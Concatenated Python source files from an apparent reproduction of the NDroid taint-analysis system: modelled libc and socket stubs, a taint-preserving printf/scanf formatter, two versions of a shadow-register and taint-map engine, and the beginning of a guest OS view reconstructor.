    def _impl_fork(self, ctx: HostContext) -> int:
        self.kernel.event_log.emit("libc", "fork")
        return EOF  # fork is observed (Table VII) but not supported

    def _impl_execve(self, ctx: HostContext) -> int:
        self.kernel.event_log.emit("libc", "execve", path=ctx.cstring_arg(0))
        return EOF

    def _impl_chown(self, ctx: HostContext) -> int:
        return 0

    def _impl_ptrace(self, ctx: HostContext) -> int:
        self.kernel.event_log.emit("libc", "ptrace", request=ctx.arg(0))
        return 0

    def _impl_sysconf(self, ctx: HostContext) -> int:
        name = ctx.arg(0)
        if name == _SC_PAGESIZE:
            return 4096
        if name == _SC_NPROCESSORS_ONLN:
            return 2
        return EOF

    def _impl_select(self, ctx: HostContext) -> int:
        return ctx.arg(0)  # report all fds ready

    # dynamic linker ----------------------------------------------------------------

    def _impl_dlopen(self, ctx: HostContext) -> int:
        path = ctx.cstring_arg(0)
        if self.dlopen_handler is None:
            return 0
        return self.dlopen_handler(path)

    def _impl_dlsym(self, ctx: HostContext) -> int:
        if self.dlsym_handler is None:
            return 0
        return self.dlsym_handler(ctx.arg(0), ctx.cstring_arg(1))

    def _impl_dlclose(self, ctx: HostContext) -> int:
        return 0

    # == sockets =========================================================================

    def _impl_socket(self, ctx: HostContext) -> int:
        return self.kernel.sys_socket(ctx.arg(0), ctx.arg(1))

    def _impl_connect(self, ctx: HostContext) -> int:
        # The sockaddr is modelled as a NUL-terminated "host:port" string.
        return self.kernel.sys_connect(ctx.arg(0), ctx.cstring_arg(1))

    def _impl_bind(self, ctx: HostContext) -> int:
        return self.kernel.sys_bind(ctx.arg(0), ctx.cstring_arg(1))

    def _impl_listen(self, ctx: HostContext) -> int:
        return self.kernel.sys_listen(ctx.arg(0))

    def _impl_accept(self, ctx: HostContext) -> int:
        return EOF  # no inbound connections in the scenarios

    def _impl_send(self, ctx: HostContext) -> int:
        address, length = ctx.arg(1), ctx.arg(2)
        payload = self._memory().read_bytes(address, length)
        return self.kernel.sys_send(ctx.arg(0), payload,
                                    self._taints_of(address, length),
                                    src_loc=Loc.mem(address,
                                                    max(length, 1)))

    def _impl_sendto(self, ctx: HostContext) -> int:
        address, length = ctx.arg(1), ctx.arg(2)
        destination = ""
        if ctx.arg(4):
            destination = self._cstr(ctx.arg(4)).decode("utf-8",
                                                        errors="replace")
        payload = self._memory().read_bytes(address, length)
        return self.kernel.sys_sendto(ctx.arg(0), payload, destination,
                                      self._taints_of(address, length),
                                      src_loc=Loc.mem(address,
                                                      max(length, 1)))

    def _impl_recv(self, ctx: HostContext) -> int:
        chunk = self.kernel.sys_recv(ctx.arg(0), ctx.arg(2))
        self._memory().write_bytes(ctx.arg(1), chunk)
        return len(chunk)

    def _impl_recvfrom(self, ctx: HostContext) -> int:
        return self._impl_recv(ctx)


def _compare(a: bytes, b: bytes) -> int:
    if a == b:
        return 0
    return 1 if a > b else 0xFFFF_FFFF  # -1 as unsigned


def _parse_c_integer(data: bytes, base: int) -> int:
    text = data.decode("ascii", errors="replace").strip()
    sign = 1
    if text.startswith(("-", "+")):
        sign = -1 if text[0] == "-" else 1
        text = text[1:]
    if base == 16 and text.lower().startswith("0x"):
        text = text[2:]
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"[:base]
    end = 0
    while end < len(text) and text[end].lower() in digits:
        end += 1
    if end == 0:
        return 0
    return (sign * int(text[:end], base)) & 0xFFFF_FFFF
