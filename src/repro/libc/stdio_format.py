"""printf/scanf-family formatting with byte-level taint provenance.

``format_with_taints`` renders a C format string against a vararg reader
and returns both the output bytes and a parallel taint list: bytes
substituted from a ``%s`` argument inherit the source string's byte taints;
bytes rendered from integer/float arguments inherit the argument's
register taint.  This is how a tainted contact name keeps its taint across
``sprintf``/``fprintf`` in the case-2 PoC (Fig. 8).

Supported conversions: ``%d %i %u %x %X %c %s %p %f %g %%`` with optional
flags/width/precision (``%-08.3d`` style), enough for the scenario apps
and libc tests.  ``sscanf_parse`` supports ``%d %u %x %s %c``.
"""

from __future__ import annotations

import struct
from typing import Callable, List, Optional, Tuple

from repro.common.taint import TAINT_CLEAR, TaintLabel
from repro.memory.memory import Memory

# A vararg reader: index -> 32-bit word.  Index advances per consumed word.
VarargReader = Callable[[int], int]
# Taint of a vararg word (register or stack slot).
VarargTaint = Callable[[int], TaintLabel]


class FormatError(ValueError):
    """A malformed or unsupported printf/scanf conversion."""
    pass


def format_with_taints(
    memory: Memory,
    fmt: bytes,
    read_vararg: VarargReader,
    vararg_taint: Optional[VarargTaint] = None,
    string_taints: Optional[Callable[[int, int], List[TaintLabel]]] = None,
) -> Tuple[bytes, List[TaintLabel]]:
    """Render ``fmt``; returns (output_bytes, per-byte taints)."""
    if vararg_taint is None:
        vararg_taint = lambda index: TAINT_CLEAR
    if string_taints is None:
        string_taints = lambda address, length: [TAINT_CLEAR] * length

    out = bytearray()
    taints: List[TaintLabel] = []
    arg_index = 0
    i = 0

    def emit(data: bytes, label_list: List[TaintLabel]) -> None:
        out.extend(data)
        taints.extend(label_list)

    while i < len(fmt):
        char = fmt[i]
        if char != ord("%"):
            emit(bytes([char]), [TAINT_CLEAR])
            i += 1
            continue
        i += 1
        if i >= len(fmt):
            raise FormatError("dangling % at end of format")
        if fmt[i] == ord("%"):
            emit(b"%", [TAINT_CLEAR])
            i += 1
            continue

        # Parse flags, width, precision, length modifiers.
        spec_start = i
        while i < len(fmt) and chr(fmt[i]) in "-+ 0#":
            i += 1
        while i < len(fmt) and chr(fmt[i]).isdigit():
            i += 1
        if i < len(fmt) and fmt[i] == ord("."):
            i += 1
            while i < len(fmt) and chr(fmt[i]).isdigit():
                i += 1
        while i < len(fmt) and chr(fmt[i]) in "hlLqjzt":
            i += 1
        if i >= len(fmt):
            raise FormatError("truncated conversion specification")
        conversion = chr(fmt[i])
        spec = "%" + fmt[spec_start:i].decode("ascii") + conversion
        # strip C length modifiers Python doesn't understand
        spec = spec.replace("ll", "").replace("h", "").replace("l", "") \
            .replace("q", "").replace("z", "").replace("j", "").replace("t", "")
        i += 1

        if conversion == "s":
            address = read_vararg(arg_index)
            pointer_taint = vararg_taint(arg_index)
            arg_index += 1
            data = memory.read_cstring(address)
            data_taints = list(string_taints(address, len(data)))
            rendered = spec % data.decode("utf-8", errors="replace")
            rendered_bytes = rendered.encode("utf-8")
            # Align taints with possible padding from a width specifier.
            pad = len(rendered_bytes) - len(data)
            if pad > 0:
                if rendered.startswith(" ") or rendered.startswith("0"):
                    data_taints = [TAINT_CLEAR] * pad + data_taints
                else:
                    data_taints = data_taints + [TAINT_CLEAR] * pad
            elif pad < 0:  # precision truncated the string
                data_taints = data_taints[:len(rendered_bytes)]
            data_taints = [t | pointer_taint for t in data_taints]
            emit(rendered_bytes, data_taints)
        elif conversion in "dioxXuc":
            value = read_vararg(arg_index)
            label = vararg_taint(arg_index)
            arg_index += 1
            if conversion == "c":
                rendered = spec % (value & 0xFF)
            elif conversion in "di":
                signed = value - 0x1_0000_0000 if value & 0x8000_0000 else value
                rendered = spec % signed
            else:
                rendered = spec % value
            data = rendered.encode("ascii")
            emit(data, [label] * len(data))
        elif conversion == "p":
            value = read_vararg(arg_index)
            label = vararg_taint(arg_index)
            arg_index += 1
            data = f"0x{value:x}".encode("ascii")
            emit(data, [label] * len(data))
        elif conversion in "fFeEgG":
            # Soft-float doubles occupy two consecutive vararg words.
            low = read_vararg(arg_index)
            high = read_vararg(arg_index + 1)
            label = vararg_taint(arg_index) | vararg_taint(arg_index + 1)
            arg_index += 2
            value = struct.unpack("<d", struct.pack("<II", low, high))[0]
            data = (spec % value).encode("ascii")
            emit(data, [label] * len(data))
        else:
            raise FormatError(f"unsupported conversion %{conversion}")

    return bytes(out), taints


def sscanf_parse(memory: Memory, text: bytes, fmt: bytes,
                 pointers: List[int]) -> int:
    """Minimal sscanf: parse ``text`` per ``fmt`` into emulated memory.

    Returns the number of conversions stored, as C sscanf does.
    """
    ti = 0
    fi = 0
    stored = 0
    pointer_index = 0

    def skip_space() -> None:
        nonlocal ti
        while ti < len(text) and chr(text[ti]).isspace():
            ti += 1

    while fi < len(fmt):
        fchar = chr(fmt[fi])
        if fchar.isspace():
            skip_space()
            fi += 1
            continue
        if fchar != "%":
            if ti >= len(text) or text[ti] != fmt[fi]:
                return stored
            ti += 1
            fi += 1
            continue
        fi += 1
        if fi >= len(fmt):
            raise FormatError("dangling % in scanf format")
        conversion = chr(fmt[fi])
        fi += 1
        if pointer_index >= len(pointers):
            raise FormatError("not enough pointers for scanf conversions")
        target = pointers[pointer_index]
        pointer_index += 1

        if conversion in "dux":
            skip_space()
            start = ti
            base = 16 if conversion == "x" else 10
            if ti < len(text) and chr(text[ti]) in "+-":
                ti += 1
            digits = "0123456789abcdefABCDEF" if base == 16 else "0123456789"
            while ti < len(text) and chr(text[ti]) in digits:
                ti += 1
            if ti == start:
                return stored
            value = int(text[start:ti].decode("ascii"), base)
            memory.write_i32(target, value)
            stored += 1
        elif conversion == "s":
            skip_space()
            start = ti
            while ti < len(text) and not chr(text[ti]).isspace():
                ti += 1
            if ti == start:
                return stored
            memory.write_bytes(target, text[start:ti] + b"\x00")
            stored += 1
        elif conversion == "c":
            if ti >= len(text):
                return stored
            memory.write_u8(target, text[ti])
            ti += 1
            stored += 1
        else:
            raise FormatError(f"unsupported scanf conversion %{conversion}")
    return stored
