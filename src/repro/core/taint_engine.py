"""NDroid's taint engine (Section V.E).

"NDroid maintains shadow registers to store the related registers' taints
and a taint map to store the memories' taints.  The taint granularity of
NDroid is byte.  The general propagation logic follows the 'or'
operation."

Three stores:

* **shadow registers** — one label per CPU register;
* **taint map** — a byte-granular sparse map over native memory;
* **iref shadow** — labels for Java objects keyed by *indirect reference*,
  because "the direct pointers of Java objects may be changed [by the GC],
  the shadow memory uses the indirect reference as key" (Section V.B).

The engine also implements :class:`NativeTaintInterface`, so the modelled
libc and the kernel consult it when data leaves the process.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.common.events import EventLog
from repro.common.taint import TAINT_CLEAR, TaintLabel, describe_taint
from repro.libc.taint_interface import NativeTaintInterface


class TaintEngine(NativeTaintInterface):
    """Shadow registers + byte-granular taint map + iref shadow store."""

    def __init__(self, event_log: Optional[EventLog] = None) -> None:
        self.event_log = event_log
        self.shadow_registers: List[TaintLabel] = [TAINT_CLEAR] * 16
        self._memory_taints: Dict[int, TaintLabel] = {}
        self._iref_taints: Dict[int, TaintLabel] = {}
        self.propagation_count = 0
        # Graceful degradation (resilience): when an analysis hook faults
        # and is quarantined, the taints it would have propagated become
        # unknowable.  The conservative label is OR-ed into every query so
        # the engine over-taints (stays sound, loses precision) instead of
        # silently dropping flows.
        self.conservative_label: TaintLabel = TAINT_CLEAR
        # Sticky: flips True the first time any non-clear label enters the
        # engine.  While False, every query is trivially clear (taint only
        # derives from existing taint), so the instruction tracer skips
        # per-instruction propagation entirely — the dominant cost in runs
        # that never touch a taint source.  It never flips back on its
        # own; :meth:`reset` and :meth:`rearm_fast_path` re-arm it between
        # jobs (farm workers reuse engines across analyses).
        self.maybe_tainted = False

    # -- lifecycle (farm worker reuse) ----------------------------------------

    def reset(self) -> None:
        """Return the engine to its pristine state between analysis jobs.

        Drops every label — shadow registers, the taint map, the iref
        store, *and* the conservative degradation label (a new job means
        a new app: the previous app's quarantine pessimism does not carry
        over) — and re-arms the clean-run fast path.
        """
        self.shadow_registers = [TAINT_CLEAR] * 16
        self._memory_taints.clear()
        self._iref_taints.clear()
        self.conservative_label = TAINT_CLEAR
        self.maybe_tainted = False

    def rearm_fast_path(self) -> bool:
        """Re-arm the clean-run fast path if no label is live anywhere.

        Unlike :meth:`reset` this never discards state: it only flips
        ``maybe_tainted`` back to ``False`` when every store is verifiably
        clear (including the conservative label — a degraded engine stays
        pessimistic).  Returns ``True`` when the fast path is armed.
        """
        if self.maybe_tainted and not self.live_label():
            self.maybe_tainted = False
        return not self.maybe_tainted

    # -- graceful degradation -------------------------------------------------

    def degrade(self, label: TaintLabel) -> None:
        """Enter (or widen) conservative mode: ``label`` joins every query."""
        if label == TAINT_CLEAR:
            return
        self.conservative_label |= label
        self.maybe_tainted = True
        self.log("degrade",
                 f"conservative label now 0x{self.conservative_label:x}",
                 taint=self.conservative_label)

    def live_label(self) -> TaintLabel:
        """Union of every label currently held anywhere in the engine.

        The widest honest answer to "what taint could a failed hook have
        been carrying?" — used to choose the degradation label.
        """
        label = self.conservative_label
        for register_label in self.shadow_registers:
            label |= register_label
        for memory_label in self._memory_taints.values():
            label |= memory_label
        for iref_label in self._iref_taints.values():
            label |= iref_label
        return label

    # -- shadow registers -----------------------------------------------------

    def get_register(self, index: int) -> TaintLabel:
        return self.shadow_registers[index] | self.conservative_label

    def set_register(self, index: int, label: TaintLabel) -> None:
        self.shadow_registers[index] = label
        self.propagation_count += 1
        if label:
            self.maybe_tainted = True

    def add_register(self, index: int, label: TaintLabel) -> None:
        self.shadow_registers[index] |= label
        self.propagation_count += 1
        if label:
            self.maybe_tainted = True

    def clear_register(self, index: int) -> None:
        self.shadow_registers[index] = TAINT_CLEAR

    def clear_all_registers(self) -> None:
        self.shadow_registers = [TAINT_CLEAR] * 16

    # -- taint map (byte granularity) ---------------------------------------------

    def get_memory(self, address: int, length: int = 1) -> TaintLabel:
        """Union of labels over ``[address, address+length)``."""
        if not self._memory_taints:
            return self.conservative_label
        label = self.conservative_label
        for offset in range(length):
            label |= self._memory_taints.get((address + offset) & 0xFFFFFFFF,
                                             TAINT_CLEAR)
        return label

    def set_memory(self, address: int, length: int,
                   label: TaintLabel) -> None:
        """Overwrite labels over a range (``t(M) := label``)."""
        self.propagation_count += 1
        if label:
            self.maybe_tainted = True
        for offset in range(length):
            key = (address + offset) & 0xFFFFFFFF
            if label:
                self._memory_taints[key] = label
            else:
                self._memory_taints.pop(key, None)

    def add_memory(self, address: int, length: int,
                   label: TaintLabel) -> None:
        """Union labels into a range (``t(M) |= label``)."""
        if not label:
            return
        self.propagation_count += 1
        self.maybe_tainted = True
        for offset in range(length):
            key = (address + offset) & 0xFFFFFFFF
            self._memory_taints[key] = self._memory_taints.get(
                key, TAINT_CLEAR) | label

    def set_memory_bytes(self, address: int,
                         labels: List[TaintLabel]) -> None:
        """Per-byte assignment (used by modelled copies like memcpy)."""
        self.propagation_count += 1
        if any(labels):
            self.maybe_tainted = True
        for offset, label in enumerate(labels):
            key = (address + offset) & 0xFFFFFFFF
            if label:
                self._memory_taints[key] = label
            else:
                self._memory_taints.pop(key, None)

    def memory_bytes(self, address: int, length: int) -> List[TaintLabel]:
        base = self.conservative_label
        if not self._memory_taints:
            return [base] * length
        return [base | self._memory_taints.get((address + offset) & 0xFFFFFFFF,
                                               TAINT_CLEAR)
                for offset in range(length)]

    def copy_memory(self, dest: int, src: int, length: int) -> None:
        """Propagate ``src``'s byte taints to ``dest`` (Listing 3)."""
        self.set_memory_bytes(dest, self.memory_bytes(src, length))

    def clear_memory(self, address: int, length: int) -> None:
        for offset in range(length):
            self._memory_taints.pop((address + offset) & 0xFFFFFFFF, None)

    @property
    def tainted_bytes(self) -> int:
        return len(self._memory_taints)

    # -- iref shadow store ----------------------------------------------------------

    def get_iref(self, iref: int) -> TaintLabel:
        return self._iref_taints.get(iref, TAINT_CLEAR) | \
            self.conservative_label

    def set_iref(self, iref: int, label: TaintLabel) -> None:
        if iref:
            self._iref_taints[iref] = label
            self.propagation_count += 1
            if label:
                self.maybe_tainted = True

    def add_iref(self, iref: int, label: TaintLabel) -> None:
        if iref and label:
            self._iref_taints[iref] = self._iref_taints.get(
                iref, TAINT_CLEAR) | label
            self.propagation_count += 1
            self.maybe_tainted = True

    # -- NativeTaintInterface (libc/kernel view) --------------------------------------

    def memory_taints(self, address: int, length: int) -> List[TaintLabel]:
        return self.memory_bytes(address, length)

    def register_taint(self, index: int) -> TaintLabel:
        return self.shadow_registers[index] | self.conservative_label

    def write_memory_taints(self, address: int,
                            labels: List[TaintLabel]) -> None:
        self.set_memory_bytes(address, labels)

    # -- diagnostics ---------------------------------------------------------------------

    def log(self, kind: str, detail: str, **data) -> None:
        if self.event_log is not None:
            self.event_log.emit("ndroid.taint", kind, detail, **data)

    def log_memory_taint(self, address: int, label: TaintLabel) -> None:
        """The paper's ``t(412a3320) := 0x202`` log lines."""
        self.log("set", f"t({address:08x}) := 0x{label:x}",
                 address=address, taint=label)
