"""NDroid's taint engine (Section V.E).

"NDroid maintains shadow registers to store the related registers' taints
and a taint map to store the memories' taints.  The taint granularity of
NDroid is byte.  The general propagation logic follows the 'or'
operation."

Three stores:

* **shadow registers** — one label per CPU register;
* **taint map** — a byte-granular *page-chunked* map over native memory:
  labels live in dense per-page lists, so range operations (every memcpy,
  every sink check) are slice assignments and slice scans instead of one
  dict operation per byte, and a page with no taint costs one absent-key
  lookup for the whole range crossing it;
* **iref shadow** — labels for Java objects keyed by *indirect reference*,
  because "the direct pointers of Java objects may be changed [by the GC],
  the shadow memory uses the indirect reference as key" (Section V.B).

The engine also implements :class:`NativeTaintInterface`, so the modelled
libc and the kernel consult it when data leaves the process.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.common.events import EventLog
from repro.common.taint import TAINT_CLEAR, TaintLabel, describe_taint
from repro.libc.taint_interface import NativeTaintInterface

# The taint map is chunked at page granularity: each present page holds a
# dense list of per-byte labels.  4 KiB matches the emulator's code pages,
# so one guest page maps to exactly one chunk.
CHUNK_SHIFT = 12
CHUNK_SIZE = 1 << CHUNK_SHIFT
CHUNK_MASK = CHUNK_SIZE - 1
ADDR_MASK = 0xFFFFFFFF

# Shared all-clear source for slice-clearing ranges (sliced, never mutated).
_CLEAR_CHUNK: List[TaintLabel] = [TAINT_CLEAR] * CHUNK_SIZE


def _spans(address: int, length: int):
    """Split ``[address, address+length)`` into (chunk, offset, span) runs.

    Handles the 2^32 address wrap the old per-byte map got for free from
    masking each key.
    """
    address &= ADDR_MASK
    out = []
    while length > 0:
        offset = address & CHUNK_MASK
        span = CHUNK_SIZE - offset
        if span > length:
            span = length
        out.append((address >> CHUNK_SHIFT, offset, span))
        address = (address + span) & ADDR_MASK
        length -= span
    return out


class TaintEngine(NativeTaintInterface):
    """Shadow registers + page-chunked taint map + iref shadow store."""

    def __init__(self, event_log: Optional[EventLog] = None) -> None:
        self.event_log = event_log
        self.shadow_registers: List[TaintLabel] = [TAINT_CLEAR] * 16
        # Page-chunked taint map: page index -> dense per-byte label list.
        self._memory_chunks: Dict[int, List[TaintLabel]] = {}
        # Monotone union of every label ever stored in the map: once an
        # accumulating range query reaches it, no further byte can add a
        # bit, so the scan stops early (stale-high is safe — it only makes
        # the early exit rarer, never wrong).
        self._memory_union: TaintLabel = TAINT_CLEAR
        self._iref_taints: Dict[int, TaintLabel] = {}
        self.propagation_count = 0
        # Graceful degradation (resilience): when an analysis hook faults
        # and is quarantined, the taints it would have propagated become
        # unknowable.  The conservative label is OR-ed into every query so
        # the engine over-taints (stays sound, loses precision) instead of
        # silently dropping flows.
        self.conservative_label: TaintLabel = TAINT_CLEAR
        # Sticky: flips True the first time any non-clear label enters the
        # engine.  While False, every query is trivially clear (taint only
        # derives from existing taint), so both analysis paths skip
        # propagation entirely — the single-step tracer skips its handler,
        # and the TB dispatch loop runs each block's *clean* variant with
        # the taint micro-ops elided.  It never flips back on its own;
        # :meth:`reset` and :meth:`rearm_fast_path` re-arm it between jobs
        # (farm workers reuse engines across analyses).
        self.maybe_tainted = False

    # -- lifecycle (farm worker reuse) ----------------------------------------

    def reset(self) -> None:
        """Return the engine to its pristine state between analysis jobs.

        Drops every label — shadow registers, the taint map, the iref
        store, *and* the conservative degradation label (a new job means
        a new app: the previous app's quarantine pessimism does not carry
        over) — and re-arms the clean-run fast path.  The shadow-register
        list is cleared in place: translation-time-compiled taint ops may
        hold a reference to it.
        """
        self.shadow_registers[:] = [TAINT_CLEAR] * 16
        self._memory_chunks.clear()
        self._memory_union = TAINT_CLEAR
        self._iref_taints.clear()
        self.conservative_label = TAINT_CLEAR
        self.maybe_tainted = False

    def rearm_fast_path(self) -> bool:
        """Re-arm the clean-run fast path if no label is live anywhere.

        Unlike :meth:`reset` this never discards state: it only flips
        ``maybe_tainted`` back to ``False`` when every store is verifiably
        clear (including the conservative label — a degraded engine stays
        pessimistic).  Returns ``True`` when the fast path is armed.
        """
        if self.maybe_tainted and not self.live_label():
            self.maybe_tainted = False
            # Every chunk is verifiably all-clear: drop them, and reset
            # the monotone union so the saturation early-exit stays sharp.
            self._memory_chunks.clear()
            self._memory_union = TAINT_CLEAR
        return not self.maybe_tainted

    # -- graceful degradation -------------------------------------------------

    def degrade(self, label: TaintLabel) -> None:
        """Enter (or widen) conservative mode: ``label`` joins every query."""
        if label == TAINT_CLEAR:
            return
        self.conservative_label |= label
        self.maybe_tainted = True
        self.log("degrade",
                 f"conservative label now 0x{self.conservative_label:x}",
                 taint=self.conservative_label)

    def live_label(self) -> TaintLabel:
        """Union of every label currently held anywhere in the engine.

        The widest honest answer to "what taint could a failed hook have
        been carrying?" — used to choose the degradation label.
        """
        label = self.conservative_label
        for register_label in self.shadow_registers:
            label |= register_label
        for chunk in self._memory_chunks.values():
            for distinct in set(chunk):
                label |= distinct
        for iref_label in self._iref_taints.values():
            label |= iref_label
        return label

    # -- shadow registers -----------------------------------------------------

    def get_register(self, index: int) -> TaintLabel:
        return self.shadow_registers[index] | self.conservative_label

    def set_register(self, index: int, label: TaintLabel) -> None:
        self.shadow_registers[index] = label
        self.propagation_count += 1
        if label:
            self.maybe_tainted = True

    def add_register(self, index: int, label: TaintLabel) -> None:
        self.shadow_registers[index] |= label
        self.propagation_count += 1
        if label:
            self.maybe_tainted = True

    def clear_register(self, index: int) -> None:
        self.shadow_registers[index] = TAINT_CLEAR

    def clear_all_registers(self) -> None:
        # In place: compiled taint ops may hold a reference to the list.
        self.shadow_registers[:] = [TAINT_CLEAR] * 16

    # -- taint map (byte granularity, page-chunked) ---------------------------

    def get_memory(self, address: int, length: int = 1) -> TaintLabel:
        """Union of labels over ``[address, address+length)``.

        Skips entirely when the map is empty, skips whole absent pages,
        and exits early once the accumulated label saturates the union of
        labels the map could possibly hold.
        """
        label = self.conservative_label
        chunks = self._memory_chunks
        if not chunks or length <= 0:
            return label
        saturation = label | self._memory_union
        if label == saturation:
            return label
        offset = address & CHUNK_MASK
        if offset + length <= CHUNK_SIZE:
            # Hot path: the whole range lives in one chunk (every 1/2/4
            # byte instruction-level access lands here).
            chunk = chunks.get((address & ADDR_MASK) >> CHUNK_SHIFT)
            if chunk is None:
                return label
            if length <= 8:
                for index in range(offset, offset + length):
                    label |= chunk[index]
                    if label == saturation:
                        return label
                return label
            for distinct in set(chunk[offset:offset + length]):
                label |= distinct
            return label
        for page, offset, span in _spans(address, length):
            chunk = chunks.get(page)
            if chunk is None:
                continue
            for distinct in set(chunk[offset:offset + span]):
                label |= distinct
            if label == saturation:
                return label
        return label

    def set_memory(self, address: int, length: int,
                   label: TaintLabel) -> None:
        """Overwrite labels over a range (``t(M) := label``)."""
        self.propagation_count += 1
        if length <= 0:
            return
        chunks = self._memory_chunks
        if label:
            self.maybe_tainted = True
            self._memory_union |= label
            for page, offset, span in _spans(address, length):
                chunk = chunks.get(page)
                if chunk is None:
                    chunks[page] = chunk = [TAINT_CLEAR] * CHUNK_SIZE
                if span == 1:
                    chunk[offset] = label
                else:
                    chunk[offset:offset + span] = [label] * span
            return
        if not chunks:
            return  # clearing an already-clear map costs nothing
        for page, offset, span in _spans(address, length):
            chunk = chunks.get(page)
            if chunk is None:
                continue
            if span == 1:
                chunk[offset] = TAINT_CLEAR
            else:
                chunk[offset:offset + span] = _CLEAR_CHUNK[:span]
            if not any(chunk):
                del chunks[page]

    def add_memory(self, address: int, length: int,
                   label: TaintLabel) -> None:
        """Union labels into a range (``t(M) |= label``)."""
        if not label or length <= 0:
            return
        self.propagation_count += 1
        self.maybe_tainted = True
        self._memory_union |= label
        chunks = self._memory_chunks
        for page, offset, span in _spans(address, length):
            chunk = chunks.get(page)
            if chunk is None:
                chunks[page] = chunk = [TAINT_CLEAR] * CHUNK_SIZE
            if span == 1:
                chunk[offset] |= label
            else:
                end = offset + span
                chunk[offset:end] = [old | label
                                     for old in chunk[offset:end]]

    def set_memory_bytes(self, address: int,
                         labels: List[TaintLabel]) -> None:
        """Per-byte assignment (used by modelled copies like memcpy)."""
        self.propagation_count += 1
        length = len(labels)
        if not length:
            return
        union = TAINT_CLEAR
        for distinct in set(labels):
            union |= distinct
        chunks = self._memory_chunks
        if union:
            self.maybe_tainted = True
            self._memory_union |= union
        elif not chunks:
            return  # writing all-clear labels into an empty map: no-op
        index = 0
        for page, offset, span in _spans(address, length):
            piece = labels[index:index + span] if span != length else labels
            index += span
            chunk = chunks.get(page)
            if chunk is None:
                if not any(piece):
                    continue
                chunks[page] = chunk = [TAINT_CLEAR] * CHUNK_SIZE
                chunk[offset:offset + span] = piece
                continue
            chunk[offset:offset + span] = piece
            if not any(piece) and not any(chunk):
                del chunks[page]

    def memory_bytes(self, address: int, length: int) -> List[TaintLabel]:
        base = self.conservative_label
        chunks = self._memory_chunks
        if not chunks or length <= 0:
            return [base] * length
        out: List[TaintLabel] = []
        for page, offset, span in _spans(address, length):
            chunk = chunks.get(page)
            if chunk is None:
                out.extend([base] * span)
            elif base:
                out.extend(label | base
                           for label in chunk[offset:offset + span])
            else:
                out.extend(chunk[offset:offset + span])
        return out

    def copy_memory(self, dest: int, src: int, length: int) -> None:
        """Propagate ``src``'s byte taints to ``dest`` (Listing 3)."""
        self.set_memory_bytes(dest, self.memory_bytes(src, length))

    def clear_memory(self, address: int, length: int) -> None:
        chunks = self._memory_chunks
        if not chunks or length <= 0:
            return
        for page, offset, span in _spans(address, length):
            chunk = chunks.get(page)
            if chunk is None:
                continue
            chunk[offset:offset + span] = _CLEAR_CHUNK[:span]
            if not any(chunk):
                del chunks[page]

    @property
    def tainted_bytes(self) -> int:
        return sum(CHUNK_SIZE - chunk.count(TAINT_CLEAR)
                   for chunk in self._memory_chunks.values())

    def memory_snapshot(self) -> Dict[int, TaintLabel]:
        """Every tainted byte as ``{address: label}`` (tests, reports)."""
        snapshot: Dict[int, TaintLabel] = {}
        for page, chunk in self._memory_chunks.items():
            base = page << CHUNK_SHIFT
            for offset, label in enumerate(chunk):
                if label:
                    snapshot[base + offset] = label
        return snapshot

    # -- iref shadow store ----------------------------------------------------------

    def get_iref(self, iref: int) -> TaintLabel:
        return self._iref_taints.get(iref, TAINT_CLEAR) | \
            self.conservative_label

    def set_iref(self, iref: int, label: TaintLabel) -> None:
        if iref:
            self._iref_taints[iref] = label
            self.propagation_count += 1
            if label:
                self.maybe_tainted = True

    def add_iref(self, iref: int, label: TaintLabel) -> None:
        if iref and label:
            self._iref_taints[iref] = self._iref_taints.get(
                iref, TAINT_CLEAR) | label
            self.propagation_count += 1
            self.maybe_tainted = True

    # -- NativeTaintInterface (libc/kernel view) --------------------------------------

    def memory_taints(self, address: int, length: int) -> List[TaintLabel]:
        return self.memory_bytes(address, length)

    def register_taint(self, index: int) -> TaintLabel:
        return self.shadow_registers[index] | self.conservative_label

    def write_memory_taints(self, address: int,
                            labels: List[TaintLabel]) -> None:
        self.set_memory_bytes(address, labels)

    # -- diagnostics ---------------------------------------------------------------------

    def log(self, kind: str, detail: str, **data) -> None:
        if self.event_log is not None:
            self.event_log.emit("ndroid.taint", kind, detail, **data)

    def log_memory_taint(self, address: int, label: TaintLabel) -> None:
        """The paper's ``t(412a3320) := 0x202`` log lines."""
        self.log("set", f"t({address:08x}) := 0x{label:x}",
                 address=address, taint=label)
