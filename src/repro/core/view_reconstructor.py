"""OS-level view reconstructor (Section V.F).

"Motivated by DroidScope, NDroid employs virtual machine introspection to
collect the information of processes and memory maps in Android's Linux
kernel."  The reconstructor parses raw guest memory — the task-struct /
VMA chains the simulated kernel maintains (see ``repro.kernel.process``) —
and never touches the kernel's Python objects.  From the rebuilt view it
answers the questions NDroid's engines need: where is a module loaded, is
an address inside third-party native code, what processes exist.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.kernel.process import (
    TASK_COMM_OFFSET,
    TASK_LIST_HEAD,
    TASK_NEXT_OFFSET,
    TASK_PID_OFFSET,
    TASK_VMA_OFFSET,
    VMA_END_OFFSET,
    VMA_FLAG_THIRD_PARTY,
    VMA_FLAGS_OFFSET,
    VMA_NAME_OFFSET,
    VMA_NEXT_OFFSET,
    VMA_START_OFFSET,
)
from repro.memory.memory import Memory


@dataclass
class VmaView:
    """One reconstructed memory mapping (a parsed vm_area_struct)."""
    start: int
    end: int
    name: str
    third_party: bool

    def contains(self, address: int) -> bool:
        return self.start <= address < self.end


@dataclass
class ProcessView:
    """One reconstructed process: pid, comm and its VMA list."""
    pid: int
    comm: str
    vmas: List[VmaView] = field(default_factory=list)


@dataclass
class OSView:
    """The reconstructed whole-system view: every process and its maps."""
    processes: List[ProcessView] = field(default_factory=list)

    def process_by_name(self, comm: str) -> Optional[ProcessView]:
        for process in self.processes:
            if process.comm == comm:
                return process
        return None

    def format(self) -> str:
        lines = []
        for process in self.processes:
            lines.append(f"pid {process.pid:4d} {process.comm}")
            for vma in process.vmas:
                tag = " (3p)" if vma.third_party else ""
                lines.append(f"    {vma.start:08x}-{vma.end:08x} "
                             f"{vma.name}{tag}")
        return "\n".join(lines)


class ViewReconstructor:
    """Parses the guest task list; caches the result until invalidated."""

    _MAX_TASKS = 1024
    _MAX_VMAS = 4096

    def __init__(self, memory: Memory) -> None:
        self.memory = memory
        self._cached: Optional[OSView] = None
        self.reconstructions = 0

    def invalidate(self) -> None:
        self._cached = None

    def reconstruct(self) -> OSView:
        """Walk the raw task-struct chain out of guest memory."""
        self.reconstructions += 1
        view = OSView()
